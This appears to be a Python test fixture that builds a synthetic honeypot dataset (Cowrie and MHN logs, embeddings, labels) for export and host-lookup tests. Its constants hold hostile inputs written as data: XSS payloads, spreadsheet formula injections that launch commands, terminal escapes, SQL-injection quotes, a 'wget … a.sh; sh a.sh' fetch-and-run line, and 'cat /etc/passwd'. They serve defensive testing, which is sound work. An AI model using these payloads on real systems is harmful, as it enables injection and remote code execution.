"""A small classified world for the export and host-lookup tests, its honeypot traffic read by ingest.

Hosts 10.0.0.1… of four classes (mirai, censys, shodan, unknown) knock on a Cowrie honeypot and an
MHN feed on three days; some unknown hosts write hostile strings into the logged fields (HTML/script
and spreadsheet-formula payloads). Embeddings separate the classes, ``predict`` labels the unknown
hosts of the last day, and a discover output in the documented shape groups some of them.
"""

from __future__ import annotations

import datetime as dt
import json

import numpy as np
import pyarrow as pa

from darkstack import atomic
from darkstack.ingest import ingest
from darkstack.schema import UNKNOWN, int_to_ip
from darkstack.stack import predict
from darkstack.workspace import day_range

DAYS = day_range(dt.date(2022, 3, 1), 3)
SIZES = {"mirai": 24, "censys": 14, "shodan": 12, UNKNOWN: 16}
LABEL_SOURCES = {"mirai": "mirai-rule", "censys": "scanners", "shodan": "scanners"}
"""The label source of each known class, as ``labels/day=…`` records it (the Mirai rule, a list of scanners)."""
VARIANTS = ("ds", "idarkvec", "igcngru")
FIRST_IP = (10 << 24) + 1
MIRAI_LIKE = 5
"""The last unknown hosts embed like the Mirai class (predict should label them so)."""
XSS = "</script><img src=x onerror=alert(1)>"
XSS_ATTR = "\"><svg onload=alert(2)>"
FORMULA = "=cmd|' /C calc'!A0"
TERMINAL = "\x1b]0;owned\x07\x1b[2J\x00ssh"
"""Terminal escapes (window title, clear screen) and a NUL: harmless in a browser, not in an analyst's console."""
HOSTILE = [XSS, FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", XSS_ATTR, TERMINAL]
"""Strings attackers put in log fields; the unknown hosts 0..6 each carry one (as event and as service, username,
password and command)."""
QUOTES = "'\"`;-- ' OR '1'='1"
NEWLINES = "wget http://198.51.100.9/a.sh\r\nsh a.sh\n"
BROKEN = "cat /etc/passwd\x00\ud800\udfff\ud83d"
"""A NUL and lone surrogates (JSON escapes that are no valid UTF-8)."""
LONG = "echo " + "A" * 5000
EXTRA = [QUOTES, NEWLINES, BROKEN, LONG]
"""More commands the unknown hosts 7..10 run."""
DOWNLOAD = "http://198.51.100.9/bins/mirai.x86"
"""The URL every Mirai-like host downloads; unknown host 0 downloads ``http://198.51.100.9/`` + XSS."""


def population():
    labels = np.concatenate([[c] * n for c, n in SIZES.items()]).astype(object)
    return np.arange(FIRST_IP, FIRST_IP + len(labels), dtype=np.uint32), labels


def _cowrie_lines(ips, labels, day) -> list[str]:
    lines, unknown = [], list(ips[labels == UNKNOWN])
    for i, ip in enumerate(ips):
        ts = dt.datetime.combine(day, dt.time(1 + i % 20, i % 60), dt.UTC).isoformat().replace("+00:00", "Z")
        session = f"s{day:%d}{i}"
        hostile = HOSTILE[unknown.index(ip)] if ip in unknown and unknown.index(ip) < len(HOSTILE) else None
        connect = {"eventid": "cowrie.session.connect", "session": session, "src_ip": str(int_to_ip([ip])[0]), "src_port": 40000 + i,
                   "dst_ip": "192.0.2.1", "dst_port": 22, "timestamp": ts, "protocol": hostile or "ssh"}
        address = connect["src_ip"]  # Cowrie names the source on every event
        login = {"eventid": f"cowrie.login.failed{hostile}" if hostile else "cowrie.login.failed", "session": session, "timestamp": ts, "src_ip": address,
                 "username": hostile or "root", "password": hostile or "admin"}
        lines += [json.dumps(connect), json.dumps(login)]
        k = unknown.index(ip) if ip in unknown else -1
        command = hostile or (EXTRA[k - len(HOSTILE)] if len(HOSTILE) <= k < len(HOSTILE) + len(EXTRA) else None)
        if command:
            lines.append(json.dumps({"eventid": "cowrie.command.input", "session": session, "timestamp": ts, "src_ip": address, "input": command}))
        url = "http://198.51.100.9/" + XSS if k == 0 else DOWNLOAD if k >= len(unknown) - MIRAI_LIKE else None
        if url:
            lines.append(json.dumps({"eventid": "cowrie.session.file_download", "session": session, "timestamp": ts, "src_ip": address, "url": url}))
    return lines


def _mhn_lines(ips, labels, day) -> list[str]:
    lines = []
    for i, ip in enumerate(ips[labels == UNKNOWN][: len(HOSTILE)]):
        ts = dt.datetime.combine(day, dt.time(22, i), dt.UTC).isoformat().replace("+00:00", "Z")
        lines.append(json.dumps({"source_ip": str(int_to_ip([ip])[0]), "source_port": 5000 + i, "destination_port": 445,
                                 "protocol": HOSTILE[i], "timestamp": ts}))
    return lines


def _write_embeddings(ws, sensor, ips, labels, seed):
    classes = list(SIZES)
    for d, day in enumerate(DAYS):
        rng = np.random.default_rng([seed, d])
        for v, variant in enumerate(VARIANTS):
            centres = np.eye(len(classes), 8) * (3.0 + v)
            X = np.array([centres[classes.index(c)] for c in labels]) + rng.standard_normal((len(ips), 8))
            emb = pa.FixedSizeListArray.from_arrays(pa.array(X.astype(np.float32).ravel()), 8)
            atomic.write_parquet(ws.embedding_path(sensor, variant, day), pa.table({"ip": pa.array(ips, pa.uint32()), "embedding": emb}))


def write_discover(ws, sensor, day, ips, clusters, groups):
    """A discover output in the documented shape: src_ip (uint32), cluster (int32), group (string, null = noise)."""
    table = pa.table({"src_ip": pa.array(ips, pa.uint32()), "cluster": pa.array(clusters, pa.int32()), "group": pa.array(groups, pa.string())})
    atomic.write_parquet(ws.results_dir / "discover" / sensor / f"day={day}.parquet", table)


def classified_world(ws, tmp_path):
    """Ingest the honeypot logs, write embeddings, labels and a discover output, and predict scenario H on the last day."""
    ips, labels = population()
    logs = tmp_path / "logs"
    logs.mkdir()
    for day in DAYS:
        (logs / f"cowrie-{day}.json").write_text("\n".join(_cowrie_lines(ips, labels, day)) + "\n")
        (logs / f"mhn-{day}.json").write_text("\n".join(_mhn_lines(ips, labels, day)) + "\n")
    ingest(ws, sorted(logs.iterdir()), "honeypot")
    behaviour = labels.copy()
    behaviour[np.flatnonzero(labels == UNKNOWN)[-MIRAI_LIKE:]] = "mirai"  # unlabelled hosts acting as Mirai bots
    _write_embeddings(ws, "honeypot", ips, behaviour, seed=1)
    known = labels != UNKNOWN
    for day in DAYS:
        table = pa.table({"ip": pa.array(ips[known], pa.uint32()), "label": labels[known].tolist(),
                          "source": [LABEL_SOURCES[c] for c in labels[known]]})
        atomic.write_parquet(ws.labels_day(day), table)
    unknown = ips[~known]
    groups = [XSS if i == 0 else ("G1" if i < 8 else None) for i in range(len(unknown))]
    write_discover(ws, "honeypot", DAYS[-1], unknown, [0 if g else -1 for g in groups], groups)
    predict(ws, DAYS[-1], "H")
    return ips, labels
